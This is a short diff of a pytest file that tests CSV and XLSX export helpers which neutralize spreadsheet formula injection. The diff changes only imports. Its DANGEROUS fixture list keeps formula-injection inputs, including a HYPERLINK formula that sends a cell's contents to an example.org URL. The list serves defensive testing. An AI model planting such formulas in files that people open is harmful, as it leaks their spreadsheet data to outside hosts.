@@ -10,14 +10,10 @@ import datetime
 import io
 from pathlib import Path
 
-import ansible.module_utils
 import pytest
 
-REPO = Path(__file__).resolve().parents[2]
-if str(REPO / "module_utils") not in ansible.module_utils.__path__:
-    ansible.module_utils.__path__.append(str(REPO / "module_utils"))
-
-from ansible.module_utils.table_files import csv_bytes, neutralize_csv, xlsx_bytes  # noqa: E402
+from support.paths import REPO
+from ansible.module_utils.table_files import csv_bytes, neutralize_csv, xlsx_bytes
 
 DANGEROUS = ['=HYPERLINK("http://example.org/?"&A1,"click")', "@SUM(1)", "+1", "-2+3", "\tleading tab",
              "\rleading carriage return", "=1+1"]
